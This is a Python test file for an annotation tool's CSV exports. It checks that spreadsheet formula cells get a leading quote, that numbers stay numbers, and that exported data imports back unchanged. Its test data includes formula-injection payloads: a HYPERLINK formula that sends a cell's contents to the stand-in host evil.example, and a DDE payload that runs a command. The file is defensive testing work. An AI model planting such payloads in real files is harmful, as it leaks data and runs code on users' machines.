"""Issue 41, finding 4: no CSV the tool writes (``export --format csv``, a release's
gold.csv, results.csv) holds a cell a spreadsheet runs as a formula. Such cells get a
leading ``'`` (OWASP); plain numbers such as Devaraj's severity -1 stay numbers; JSON
keeps the raw values; the tool's own CSV import reads back exactly what was exported."""

from __future__ import annotations

import csv
import io
import json

from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import select, update

from annotator.core.records import DocumentRecord
from annotator.core.tables import FORMULA_LEADS, PLAIN_NUMBER, cell_value, spreadsheet_safe
from annotator.evaluation.export import results_csv, results_json
from annotator.interop.exporting import export_project
from annotator.interop.importing import import_annotations
from annotator.models import Document, Edit
from annotator.study.projects import create_project
from tests.adjudication_fixtures import release
from tests.test_interop_roundtrip import (
    build_factuality,
    build_infoloss,
    documents,
    snapshot,
    store_documents,
)

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"see")', "=cmd|' /C calc'!A0",
            "+1+1", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "'=already quoted"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _no_formula(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(FORMULA_LEADS) or PLAIN_NUMBER.fullmatch(cell), cell


def test_formula_cells_are_quoted_and_numbers_are_not():
    assert spreadsheet_safe("=1+1") == "'=1+1" and spreadsheet_safe("@x") == "'@x"
    assert spreadsheet_safe("\tx") == "'\tx" and spreadsheet_safe("-2+3") == "'-2+3"
    assert spreadsheet_safe("'=x") == "''=x" and spreadsheet_safe("'plain") == "'plain"
    for number in ("-1", "+0.5", "-2e-3", "3", "-.5", "12.25"):
        assert spreadsheet_safe(number) == number
    assert spreadsheet_safe("-١") == "'-١"  # only ASCII digits make a number


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r'0123456789.eE ax")), max_size=8)
       | st.text(max_size=12))
def test_what_is_written_reads_back_as_it_was(text):
    written = spreadsheet_safe(text)
    assert cell_value(written) == text
    assert not written.startswith(FORMULA_LEADS) or PLAIN_NUMBER.fullmatch(written)


def test_the_csv_export_is_safe_and_imports_back_to_the_same_values(database, tmp_path):
    with database.session() as session:
        project = build_infoloss(session)
        session.execute(update(Document).where(Document.project_id == project.id,
                                               Document.external_id == "d1")
                        .values(external_id=FORMULAS[0]))
        edits = session.scalars(select(Edit).order_by(Edit.id)).all()
        edits[0].fields = {**edits[0].fields, "question": FORMULAS[1], "answer": FORMULAS[2],
                           "comment": FORMULAS[7]}
        edits[1].fields = {**edits[1].fields, "question": FORMULAS[3], "answer": FORMULAS[4]}
        edits[2].fields = {**edits[2].fields, "question": FORMULAS[5], "answer": FORMULAS[6]}
        session.flush()
        out = tmp_path / "out.csv"
        export_project(session, project, "csv", out)
        cells = _cells(out.read_bytes().decode("utf-8"))
        _no_formula(cells)
        for formula in FORMULAS:
            assert "'" + formula in cells, formula
        raw = tmp_path / "out.jsonl"
        export_project(session, project, "jsonl", raw)
        lines = [json.loads(line) for line in raw.read_text(encoding="utf-8").splitlines()]
        assert lines[0]["document_id"] == FORMULAS[0]  # JSON keeps the raw value
        assert {e["fields"]["question"] for line in lines for e in line["edits"]} >= set(
            FORMULAS[1:6:2])

        expected, expected_docs = snapshot(session, project), documents(session, project)
        copy = create_project(session, "copy", "infolossqa")
        store_documents(session, copy, [DocumentRecord(i, s, t, 1, m)
                                        for i, s, t, m in expected_docs], "docs")
        import_annotations(session, copy, out, "annotations-csv")
        assert snapshot(session, copy) == expected


def test_severity_minus_one_stays_a_number_in_the_csv(database, tmp_path):
    with database.session() as session:
        project = build_factuality(session)
        out = tmp_path / "out.csv"
        export_project(session, project, "csv", out)
        rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
        assert "-1" in [r["rating_value"] for r in rows]


def test_gold_csv_quotes_formulas_and_gold_jsonl_keeps_them(database, adjudicated, tmp_path):
    with database.session() as session:
        session.execute(update(Document).where(Document.id == adjudicated["docs"]["q1"])
                        .values(external_id="=1+1"))
        session.execute(update(Document).where(Document.id == adjudicated["docs"]["q2"])
                        .values(external_id="@q2"))
        session.commit()
    release(database, adjudicated, tmp_path / "exports")
    folder = tmp_path / "exports" / "qa" / "v1"
    rows = list(csv.DictReader(io.StringIO((folder / "gold.csv").read_text())))
    assert [r["document_id"] for r in rows] == ["'=1+1", "'@q2"]
    _no_formula(_cells((folder / "gold.csv").read_text()))
    gold = [json.loads(line) for line in (folder / "gold.jsonl").read_text().splitlines()]
    assert [g["id"] for g in gold] == ["=1+1", "@q2"]


def test_results_csv_quotes_formulas_and_results_json_keeps_them():
    data = {"by_model": {"=cmd|' /C calc'!A0": {"good": -1}, "plain": {"good": 0.75}}}
    cells = _cells(results_csv(data))
    _no_formula(cells)
    assert "'" + "by_model.=cmd|' /C calc'!A0.good" not in cells  # the key starts with b
    assert "-1" in cells and "0.75" in cells
    assert "=cmd|' /C calc'!A0" in json.loads(results_json(data))["by_model"]
